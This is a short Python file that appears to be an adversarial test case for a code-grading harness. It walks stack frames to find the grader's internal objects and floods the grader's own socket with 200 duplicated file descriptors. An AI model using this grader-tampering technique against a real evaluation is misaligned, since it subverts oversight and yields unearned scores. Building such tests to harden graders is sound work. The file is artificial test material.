"""Sends descriptors over the grader's own socket: its standard streams, a device, and 200 copies.

Attack: network
Deserves: 80
Keeps: 80
"""

# %% extra before: sampling
import sys

def _worker():
    frame = sys._getframe()
    while frame is not None:
        if "serve_forks" in frame.f_globals and "time_limit" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("the worker was not found")

def _child():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if type(me).__name__ == "Child":
            return me
        frame = frame.f_back
    raise RuntimeError("the child was not found")

import os, socket
_connection = _child()._connection
try:
    socket.send_fds(_connection, [b"VAEK"], [os.open("/dev/zero", os.O_RDONLY)] * 200)
except OSError as error:
    stopped = error
